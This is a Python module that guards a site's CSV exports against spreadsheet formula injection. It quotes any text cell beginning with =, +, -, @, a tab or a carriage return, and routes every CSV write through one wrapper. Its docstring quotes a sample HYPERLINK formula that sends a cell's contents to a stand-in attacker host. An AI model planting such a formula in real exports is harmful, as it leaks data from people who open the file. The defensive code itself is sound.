"""CSV cells that are safe to open in a spreadsheet (OWASP's rule against formula injection).

A spreadsheet treats a cell beginning with ``=``, ``+``, ``-`` or ``@`` as a formula (and a tab
or carriage return in front of one is skipped on import), so a document titled
``=HYPERLINK("http://evil.example/?q="&A1,"click me")`` would run in the reporter's spreadsheet.
Every text cell that begins with one of these is written with a leading ``'``, which spreadsheets
show as text. Numbers are written as they are (a negative count is a number, not a formula), and
JSON-lines exports stay raw: only CSV is opened by spreadsheets.

Every CSV the site writes goes through :func:`writer`; ``tests/results/test_export_formula_injection.py`` checks
that no other module calls ``csv.writer``.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """``value`` with a leading ``'`` when it is text a spreadsheet would read as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeWriter:
    """``csv.writer`` whose rows are made safe cell by cell."""

    def __init__(self, stream: Any, **kwargs: Any) -> None:
        self._writer = csv.writer(stream, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([safe_cell(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(stream: Any, **kwargs: Any) -> SafeWriter:
    return SafeWriter(stream, **kwargs)


class _Echo:
    """A file-like object whose write() hands back the line (csv.writer wants a file)."""

    def write(self, value: str) -> str:
        return value


def line_writer(**kwargs: Any) -> SafeWriter:
    """A safe writer whose ``writerow`` returns the CSV line instead of writing it: what a
    streamed export yields, row by row."""
    return SafeWriter(_Echo(), **kwargs)
